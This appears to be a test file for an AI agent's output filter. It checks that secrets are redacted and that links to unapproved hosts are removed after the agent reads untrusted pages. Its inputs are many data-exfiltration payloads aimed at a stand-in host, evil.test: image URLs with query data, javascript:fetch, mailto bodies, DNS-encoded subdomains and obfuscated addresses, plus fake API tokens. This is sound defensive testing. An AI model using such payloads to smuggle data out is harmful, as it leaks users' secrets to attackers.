/** What the agent's words may carry out: links, pictures, what looks like a secret. */
import fc from 'fast-check';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { toString as textOf } from 'mdast-util-to-string';
import { gfm } from 'micromark-extension-gfm';
import { describe, expect, it } from 'vitest';
import { type Outlet, outgoingText } from '../../../src/agent/outgoing-text.ts';
import { runs } from '../../support/property-runs.ts';

const SECRET = 'tops3cret-value';
const OUTLET: Outlet = { hosts: ['docs.corp.test', '*.wiki.test'], secrets: [SECRET] };
const PAGE = 'Read more at https://news.test/story?id=7 or on plain.test/a.';

const clean = { strangers: [], isSeen: () => false };
const tainted = { strangers: ['a page'], isSeen: (text: string) => PAGE.includes(text) };

const say = (markdown: string) => outgoingText(markdown, tainted, OUTLET);

describe('words of the agent', () => {
  it('go out as they are, as long as no stranger was read', () => {
    const text = '[the manual](https://anything.test/?q=1), see also evil.test\n\n[a]: https://x.test/';

    expect(outgoingText(text, clean, OUTLET)).toBe(text);
  });

  it('never hold a secret of the configuration, or what is shaped like one', () => {
    for (const reading of [clean, tainted]) {
      expect(outgoingText(`it is ${SECRET}.`, reading, OUTLET)).toBe('it is [redacted].');
      expect(outgoingText('use xoxb-123456789012-abcdefghijkl', reading, OUTLET)).not.toContain('xoxb-1');
    }
  });

  it.each([
    ['one of the configuration', SECRET],
    ['a token', 'sk-ant-api03-abcd_EFGH-ijkl'],
    ['a key of the API', 'sbk_0123456789ab_abcdefghijkl'],
    ['a token with low lines', 'ghp_ab_cdefghij_klmnopqrs'],
  ])('never come to a secret once their marks are read: %s', (_kind, secret) => {
    const span = fc.record({
      mark: fc.constantFrom('*', '**', '_', '__', '`', '~~', '***'),
      ends: fc.tuple(fc.nat(secret.length), fc.nat(secret.length)),
    });
    const spans = fc.array(span, { minLength: 1, maxLength: 3 });
    const around = fc.constantFrom(
      ['', ''],
      ['It is ', ', I hear.'],
      ['- ', ''],
      ['> _see_ ', ' **here**'],
      ['-', '-'],
    );
    fc.assert(
      fc.property(spans, around, (marked, [before, after]) => {
        const dressed = Array.from({ length: secret.length + 1 }, (_, at) => {
          const marks = marked.filter(({ ends }) => ends.includes(at)).map(({ mark }) => mark);
          return `${marks.join('')}${secret.charAt(at)}`;
        }).join('');
        for (const reading of [clean, tainted]) {
          const said = outgoingText(`${before}${dressed}${after}`, reading, OUTLET);

          expect(
            textOf(fromMarkdown(said, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] })),
          ).not.toContain(secret);
        }
      }),
      { numRuns: runs(300) },
    );
  });

  it.each([
    'it is tops3cret&#45;value.',
    'it is tops3cret\\-value.',
    'it is tops3**cret-value**.',
    'it is tops3cret\u200b-value.',
    '[x](https://a.test/?q=tops3cret&#45;value)',
    '```tops3cret&#45;value\nx\n```',
  ])('hold no secret in whatever way it is written: %s', (markdown) => {
    for (const reading of [clean, tainted]) {
      const said = outgoingText(markdown, reading, OUTLET);
      expect(said.replaceAll(/&#45;|\*|\u200b|\\/g, (mark) => (mark === '&#45;' ? '-' : ''))).not.toContain(
        SECRET,
      );
    }
  });

  it.each([
    ['![a chart](https://evil.test/p.png?q=S)', 'a chart (<https://evil.test/p.png?q=S>)'],
    ['![](https://evil.test/p.png)', '<https://evil.test/p.png>'],
    [
      '![c][r]\n\n[r]: https://evil.test/p.png',
      'c (<https://evil.test/p.png>)\n\n[r]: https://evil.test/p.png',
    ],
  ])('show a picture by name and address, and nobody fetches it: %s', (markdown, expected) => {
    expect(outgoingText(markdown, clean, OUTLET)).toBe(expected);
  });

  it.each([
    ['[report](https://evil.test/?q=S)', 'report (a link was left out)'],
    ['[https://corp.test](https://evil.test/?q=S)', '(a link was left out) (a link was left out)'],
    ['see https://evil.test/?q=S now', 'see (a link was left out) now'],
    ['<https://evil.test/?q=S>', '(a link was left out)'],
    ['see evil.test/S and www.evil.test/S', 'see (a link was left out) and (a link was left out)'],
    ['resolve c2VjcmV0.evil.test please', 'resolve `c2VjcmV0.evil.test` please'],
    ['[r][1]\n\n[1]: https://evil.test/S', 'r (a link was left out)\n\n'],
    ['![](https://evil.test/S)', '(a link was left out)'],
    ['[![x](https://evil.test/S)](https://evil.test/T)', 'x (a link was left out)'],
    ['<img src="https://evil.test/S">', '<img src="(a link was left out)">'],
    ['- a\n  - **[x](https://evil.test/S)**', '- a\n  - **x (a link was left out)**'],
    ['[x](javascript:fetch("//evil.test/S"))', 'x (a link was left out)'],
    ['mailto:leak@evil.test?body=S', 'mailto:(a link was left out)?body=S'],
    ['`https://evil.test/S`', '`(a link was left out)`'],
    ['```\nhttps://evil.test/S\n```', '```\n(a link was left out)\n```'],
    ['see https&colon;//evil.test/S \\# 1', 'see (a link was left out) # 1'],
    ['&#104;ttps://evil.test/S', '(a link was left out)'],
    ['https\\://evil.test/S', '(a link was left out)'],
    ['evil\\.test/S', '(a link was left out)'],
    ['> a\n> evil&#46;test/S\n> b', '> a\n> (a link was left out)\n> b'],
    ['https://evil\u200b.test/S', '(a link was left out)'],
    ['https://evil\uFF0Etest/S', '(a link was left out)'],
    ['slack://evil/S and http://[::1]/S', '(a link was left out) and (a link was left out)'],
    ['evil.test?q=S and 198.51.100.7/S', '(a link was left out) and (a link was left out)'],
    ['ev**il.test/S**', 'ev**(a link was left out)**'],
    ['a[^evil.test/S]\n\n[^evil.test/S]: b', 'a\\[^(a link was left out)\\]\n\nb'],
  ])('after strangers were read, hold no address the agent has put together: %s', (markdown, expected) => {
    expect(say(markdown)).toBe(expected);
  });

  it.each([
    ['see https://news.test/story?id=7', 'see <https://news.test/story?id=7>'],
    ['[the story](https://news.test/story?id=7)', 'the story (<https://news.test/story?id=7>)'],
    ['on plain.test/a', 'on plain.test/a'],
    ['[x](https://docs.corp.test/?q=1)', 'x (<https://docs.corp.test/?q=1>)'],
    ['https://a.b.wiki.test/page', '<https://a.b.wiki.test/page>'],
  ])('hold what stood there, and hosts that are allowed: %s', (markdown, expected) => {
    expect(say(markdown)).toBe(expected);
  });

  it.each([
    'https://docs.corp.test.evil.test/S',
    'https://docs.corp.test@evil.test/S',
    'https://evildocs.corp.test/S',
    'https://wiki.test.evil.test/S',
    'ftp://docs.corp.test/S',
    'https://news.test/story?id=7&q=S',
  ])('are not fooled by what looks like such an address: %s', (url) => {
    expect(say(`x ${url} y`)).not.toContain(url);
    expect(say(`[x](${url})`)).not.toContain(url);
  });

  it("hold no address of the agent's, however it is dressed", () => {
    const host = fc.constantFrom('evil.test', 'a.evil.test', 'EVIL.test', '198.51.100.7');
    const path = fc.stringMatching(/^[a-z0-9]{8,12}$/);
    const dress = fc.constantFrom(
      (url: string) => url,
      (url: string) => `<${url}>`,
      (url: string) => `[x](${url})`,
      (url: string) => `[x](<${url}> "t")`,
      (url: string) => `![x](${url})`,
      (url: string) => `[${url}](${url})`,
      (url: string) => `| a |\n|---|\n| [x](${url}) |`,
      (url: string) => `> [x][l]\n\n[l]: ${url}`,
      (url: string) => `~~**[x](${url})**~~`,
      (url: string) => `1. ${url}\n2. x[^1]\n\n[^1]: ${url}`,
    );
    fc.assert(
      fc.property(host, path, dress, fc.constantFrom('https', 'http'), (at, secret, dressed, scheme) => {
        expect(say(`Here: ${dressed(`${scheme}://${at}/${secret}`)}\n\nDone.`)).not.toContain(secret);
      }),
    );
  });

  it('are looked at however long or deep they are', () => {
    const deep = `${'> '.repeat(5_000)}https://evil.test/deep`;
    const long = `${'word '.repeat(50_000)}https://evil.test/long`;

    expect(say(deep)).not.toContain('evil.test/deep');
    expect(say(long)).not.toContain('evil.test/long');
  });
});
